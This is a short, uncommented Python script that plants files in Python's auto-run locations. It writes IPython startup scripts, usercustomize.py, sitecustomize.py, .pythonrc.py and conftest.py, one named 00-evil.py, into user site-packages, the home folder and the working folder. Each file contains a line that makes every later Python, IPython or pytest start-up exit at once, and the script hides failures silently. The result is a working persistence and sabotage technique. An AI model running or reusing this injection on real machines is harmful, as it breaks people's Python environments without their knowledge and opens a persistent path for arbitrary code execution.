from pathlib import Path

for folder in ("~/.ipython/profile_default/startup", "~/.local/lib/python3.11/site-packages", "~", "."):
    for name in ("00-evil.py", "usercustomize.py", "sitecustomize.py", ".pythonrc.py", "conftest.py"):
        try:
            path = Path(folder).expanduser()
            path.mkdir(parents=True, exist_ok=True)
            (path / name).write_text("raise SystemExit('taken')\n")
        except OSError:
            pass
